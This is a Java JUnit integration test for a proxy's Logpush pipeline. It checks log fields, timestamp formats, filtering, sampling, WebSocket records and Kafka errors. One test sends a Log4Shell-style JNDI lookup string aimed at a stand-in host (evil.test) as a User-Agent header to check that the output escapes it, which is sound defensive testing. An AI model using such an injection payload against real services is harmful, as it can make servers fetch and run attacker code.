package zoneplane.dataplane.logpush;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;
import static zoneplane.dataplane.support.LogpushFixtures.names;
import static zoneplane.dataplane.support.LogpushFixtures.options;

import io.netty.handler.codec.http2.DefaultHttp2Headers;
import java.net.http.HttpResponse;
import java.time.Duration;
import java.time.Instant;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.stream.Collectors;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import zoneplane.dataplane.support.H2Visitor;
import zoneplane.dataplane.support.LogReceiver;
import zoneplane.dataplane.support.LogpushFixtures;
import zoneplane.dataplane.support.LogpushControlPlane;
import zoneplane.dataplane.support.ProxyExtension;
import zoneplane.dataplane.support.RawWebSocket;
import zoneplane.dataplane.support.Zones;
import zoneplane.model.logpush.HttpRequestsField;
import zoneplane.model.logpush.OutputOptions;
import zoneplane.model.logpush.TimestampFormat;
import zoneplane.model.wire.LogpushJobs;

/**
 * Issue 23 end to end on one node: HTTP/1.1, h2 and WebSocket traffic through the proxy to a recording origin,
 * jobs from a fake control plane's feed, batches POSTed to a real HTTP receiver that gunzips and parses them,
 * and the outcome reports the node PUTs back.
 */
class LogpushThroughProxyTest {

    static final String TOKEN = "logpush-node-token";
    static final LogpushControlPlane controlPlane = new LogpushControlPlane(TOKEN);
    static final LogReceiver receiver = new LogReceiver();

    @RegisterExtension
    static ProxyExtension edge = controlPlane.follows(ProxyExtension.zones(origin -> List.of(
                    Zones.zone("a.test", origin.url()).build(), Zones.zone("ws.test", origin.url()).build())));

    @AfterAll
    static void stop() {
        controlPlane.close();
        receiver.close();
    }

    static String zoneId(String host) {
        return edge.node().view().current().route(host).id();
    }

    static LogpushJobs.Job job(long id, String host, OutputOptions options, String filter, String destination) {
        return LogpushFixtures.job(id, zoneId(host), options, filter, destination);
    }

    static LogpushJobs.Job job(long id, String host, OutputOptions options) {
        return job(id, host, options, "", receiver.url("/job" + id + "?header_Authorization=Bearer%20s3cret&tag=x"));
    }

    @Test
    void everyFieldOfHttp1AndH2RequestsArrivesGzippedWithTheJobsHeaders() throws Exception {
        controlPlane.serve(job(1, "a.test", options(TimestampFormat.UNIXNANO, HttpRequestsField.values())));
        Instant before = Instant.now();
        HttpResponse<String> one = edge.send(edge.request("a.test", "/one?x=1", false).header("User-Agent", "agent \"q\"")
                .header("Referer", "https://ref.test/").GET());
        assertThat(one.statusCode()).isEqualTo(200);
        assertThat(edge.get("a.test", "/two").statusCode()).isEqualTo(200);
        try (H2Visitor h2 = H2Visitor.cleartext(edge.httpPort()).preface()) {
            assertThat(h2.request(1, new DefaultHttp2Headers().method("GET").scheme("http").authority("a.test")
                    .path("/h2"), true).await(1, Duration.ofSeconds(10)).status()).isEqualTo(200);
        }
        await().atMost(Duration.ofSeconds(20)).until(() -> receiver.records("/job1").size() >= 3);

        List<Map<String, Object>> records = receiver.records("/job1");
        assertThat(records).hasSize(3);
        for (Map<String, Object> record : records) {
            assertThat(List.copyOf(record.keySet())).containsExactlyElementsOf(names(HttpRequestsField.values()));
            assertThat(record.get("EdgeColoCode")).isEqualTo("TST");
            assertThat(record.get("ZoneName")).isEqualTo("a.test");
            assertThat(record.get("ClientRequestHost")).isEqualTo("a.test");
            assertThat(record.get("EdgeResponseStatus")).isEqualTo(200L);
            assertThat(record.get("OriginResponseStatus")).isEqualTo(200L);
            assertThat(record.get("ClientIP")).isEqualTo("127.0.0.1");
            assertThat(record.get("ZoneplaneConnectionKind")).isEqualTo("http");
            assertThat((Long) record.get("EdgeStartTimestamp")).isBetween(nanos(before.minusSeconds(1)), nanos(Instant.now()));
            assertThat((Long) record.get("EdgeEndTimestamp")).isGreaterThanOrEqualTo((Long) record.get("EdgeStartTimestamp"));
            assertThat((Long) record.get("EdgeResponseBytes")).isGreaterThan((Long) record.get("EdgeResponseBodyBytes"));
        }
        Map<String, Map<String, Object>> byPath = records.stream()
                .collect(Collectors.toMap(r -> (String) r.get("ClientRequestPath"), r -> r));
        assertThat(byPath.keySet()).containsExactlyInAnyOrder("/one", "/two", "/h2");
        assertThat(byPath.get("/one")).containsEntry("ClientRequestQuery", "x=1").containsEntry("ClientRequestURI", "/one?x=1")
                .containsEntry("ClientRequestUserAgent", "agent \"q\"").containsEntry("ClientRequestReferer", "https://ref.test/")
                .containsEntry("ClientRequestProtocol", "HTTP/1.1").containsEntry("ClientRequestMethod", "GET")
                .containsEntry("ClientRequestScheme", "http").containsEntry("ClientSSLProtocol", "none")
                .containsEntry("RayID", one.headers().firstValue("cf-ray").orElseThrow());
        assertThat(byPath.get("/h2")).containsEntry("ClientRequestProtocol", "HTTP/2");
        for (LogReceiver.Post post : receiver.posts("/job1")) {
            assertThat(post.path()).isEqualTo("/job1?tag=x");
            assertThat(post.headers()).containsEntry("authorization", "Bearer s3cret")
                    .containsEntry("content-type", HttpDestination.CONTENT_TYPE).containsEntry("content-encoding", "gzip");
        }
        await().atMost(Duration.ofSeconds(20)).until(() -> controlPlane.outcome(1).recordsDelivered() == 3);
        assertThat(controlPlane.outcome(1).lastComplete()).isAfter(before.minusSeconds(1));
        assertThat(controlPlane.outcome(1).lastError()).isNull();
        assertThat(controlPlane.problems()).isEmpty();
        assertThat(receiver.problems()).isEmpty();
    }

    static long nanos(Instant instant) {
        return instant.getEpochSecond() * 1_000_000_000L + instant.getNano();
    }

    @Test
    void eachTimestampFormatAndTheJobsFramingAreWrittenAsCloudflareDoes() throws Exception {
        HttpRequestsField[] fields = {HttpRequestsField.EDGE_START_TIMESTAMP, HttpRequestsField.CLIENT_REQUEST_USER_AGENT,
                HttpRequestsField.EDGE_RESPONSE_STATUS};
        OutputOptions framed = new OutputOptions(List.of(fields), TimestampFormat.RFC3339MS, 1.0, "[", "]", "{", "}", ",", true);
        controlPlane.serve(job(11, "a.test", options(TimestampFormat.UNIXNANO, fields)), job(12, "a.test", options(TimestampFormat.UNIX, fields)),
                job(13, "a.test", options(TimestampFormat.RFC3339, fields)), job(14, "a.test", framed));
        long now = Instant.now().getEpochSecond();
        edge.send(edge.request("a.test", "/ts/1", false).header("User-Agent", "${jndi:ldap://evil.test/a}").GET());
        edge.send(edge.request("a.test", "/ts/2", false).header("User-Agent", "plain").GET());
        await().atMost(Duration.ofSeconds(20)).until(() -> receiver.records("/job13").size() == 2
                && receiver.posts("/job14").stream().mapToInt(p -> p.body().split("\\},\\{").length).sum() == 2);

        assertThat(receiver.records("/job11")).allSatisfy(r -> assertThat((Long) r.get("EdgeStartTimestamp") / 1_000_000_000L)
                .isBetween(now - 5, now + 5));
        assertThat(receiver.records("/job12")).allSatisfy(r -> assertThat((Long) r.get("EdgeStartTimestamp")).isBetween(now - 5, now + 5));
        assertThat(receiver.records("/job13")).allSatisfy(r -> {
            assertThat((String) r.get("EdgeStartTimestamp")).matches("\\d{4}-\\d\\d-\\d\\dT\\d\\d:\\d\\d:\\d\\dZ");
            assertThat(Instant.parse((String) r.get("EdgeStartTimestamp")).getEpochSecond()).isBetween(now - 5, now + 5);
        });
        assertThat(receiver.records("/job13")).extracting(r -> r.get("ClientRequestUserAgent"))
                .containsExactlyInAnyOrder("${jndi:ldap://evil.test/a}", "plain");
        String body = receiver.posts("/job14").stream().map(LogReceiver.Post::body)
                .collect(Collectors.joining("|"));
        assertThat(body).matches("\\[\\{\"EdgeStartTimestamp\":\"\\d{4}-\\d\\d-\\d\\dT\\d\\d:\\d\\d:\\d\\d\\.\\d{3}Z\",.*\\}\\]");
        assertThat(body).contains("\"ClientRequestUserAgent\":\"x{jndi:ldap://evil.test/a}\"").doesNotContain("${");
        assertThat(body).contains("\"EdgeResponseStatus\":200");
    }

    @Test
    void theFilterAndTheSampleRateDecideWhichRecordsGo() {
        OutputOptions half = new OutputOptions(List.of(HttpRequestsField.RAY_ID, HttpRequestsField.CLIENT_REQUEST_PATH),
                TimestampFormat.UNIX, 0.5, "", "", "{", "}\n", "", false);
        controlPlane.serve(job(21, "a.test", half, "{\"where\":{\"and\":[{\"key\":\"ClientRequestPath\",\"operator\":\"startsWith\","
                + "\"value\":\"/keep\"},{\"key\":\"EdgeResponseStatus\",\"operator\":\"eq\",\"value\":\"200\"}]}}",
                receiver.url("/job21")));
        Set<String> expected = new HashSet<>();
        for (int i = 0; i < 40; i++) {
            String ray = edge.get("a.test", "/keep/" + i).headers().firstValue("cf-ray").orElseThrow();
            if (Sampling.keep(21, ray, 0.5)) {
                expected.add(ray);
            }
            edge.get("a.test", "/drop/" + i);
        }
        assertThat(expected.size()).isBetween(8, 32);
        await().atMost(Duration.ofSeconds(20)).until(() -> receiver.records("/job21").size() >= expected.size());
        await().during(Duration.ofMillis(1500)).atMost(Duration.ofSeconds(5))
                .until(() -> receiver.records("/job21").size() == expected.size());
        assertThat(receiver.records("/job21")).extracting(r -> (String) r.get("RayID")).containsExactlyInAnyOrderElementsOf(expected);
        assertThat(receiver.records("/job21")).allSatisfy(r -> assertThat((String) r.get("ClientRequestPath")).startsWith("/keep/"));
    }

    @Test
    void aWebSocketIsOneRecordWrittenWhenItClosesSpanningTheConnection() throws Exception {
        OutputOptions options = options(TimestampFormat.RFC3339MS, HttpRequestsField.ZONEPLANE_CONNECTION_KIND,
                HttpRequestsField.EDGE_START_TIMESTAMP, HttpRequestsField.EDGE_END_TIMESTAMP,
                HttpRequestsField.EDGE_RESPONSE_STATUS, HttpRequestsField.EDGE_RESPONSE_BYTES);
        controlPlane.serve(job(31, "ws.test", options));
        long received;
        Instant opened = Instant.now();
        try (RawWebSocket ws = RawWebSocket.open(edge.httpPort(), "ws.test", "/ws")) {
            assertThat(ws.status()).isEqualTo(101);
            ws.sendText("hello");
            assertThat(ws.read().text()).isEqualTo("hello");
            Thread.sleep(1500); // a whole batch interval: nothing is written while the connection is open
            assertThat(receiver.records("/job31")).isEmpty();
            ws.sendClose(1000);
            RawWebSocket.Frame close = ws.read();
            assertThat(close.opcode()).isEqualTo(8);
            received = ws.head().length() + (2 + 5) + (2 + close.payload().length);
        }
        await().atMost(Duration.ofSeconds(20)).until(() -> !receiver.records("/job31").isEmpty());
        await().during(Duration.ofMillis(1200)).atMost(Duration.ofSeconds(5)).until(() -> receiver.records("/job31").size() == 1);
        Map<String, Object> record = receiver.records("/job31").get(0);
        assertThat(record).containsEntry("ZoneplaneConnectionKind", "websocket").containsEntry("EdgeResponseStatus", 101L)
                .containsEntry("EdgeResponseBytes", received);
        Instant start = Instant.parse((String) record.get("EdgeStartTimestamp"));
        Instant end = Instant.parse((String) record.get("EdgeEndTimestamp"));
        assertThat(Duration.between(start, end)).isGreaterThanOrEqualTo(Duration.ofMillis(1500));
        assertThat(start).isAfterOrEqualTo(opened.minusMillis(5));
    }

    @Test
    void aKafkaJobWhoseBrokerDoesNotResolveReportsWhyAndDeliversNothing() {
        controlPlane.serve(job(51, "a.test", options(TimestampFormat.UNIX, HttpRequestsField.RAY_ID), "", "kafka://broker.invalid:9092/logs"));
        edge.get("a.test", "/kafka");
        await().atMost(Duration.ofSeconds(20)).until(() -> controlPlane.outcome(51).errorMessage() != null);
        assertThat(controlPlane.outcome(51).errorMessage()).isEqualTo("Kafka bootstrap broker broker.invalid does not resolve");
        assertThat(controlPlane.outcome(51).lastError()).isNotNull();
        assertThat(controlPlane.outcome(51).lastComplete()).isNull();
        assertThat(controlPlane.outcome(51).recordsDelivered()).isZero();
    }

    @Test
    void aChangedJobKeepsItsTotalsAndWritesTheNewWayFromThen() {
        controlPlane.serve(job(61, "a.test", options(TimestampFormat.UNIX, HttpRequestsField.RAY_ID)));
        edge.get("a.test", "/before/1");
        edge.get("a.test", "/before/2");
        await().atMost(Duration.ofSeconds(20)).until(() -> controlPlane.outcome(61).recordsDelivered() == 2);
        controlPlane.serve(job(61, "a.test", options(TimestampFormat.UNIX, HttpRequestsField.RAY_ID, HttpRequestsField.CLIENT_REQUEST_PATH)));
        edge.get("a.test", "/after/1");
        await().atMost(Duration.ofSeconds(20)).until(() -> controlPlane.outcome(61).recordsDelivered() == 3);
        assertThat(receiver.records("/job61")).hasSize(3);
        assertThat(receiver.records("/job61").get(2)).containsOnlyKeys("RayID", "ClientRequestPath")
                .containsEntry("ClientRequestPath", "/after/1");
        assertThat(receiver.records("/job61").subList(0, 2)).allSatisfy(r -> assertThat(r).containsOnlyKeys("RayID"));
    }
}
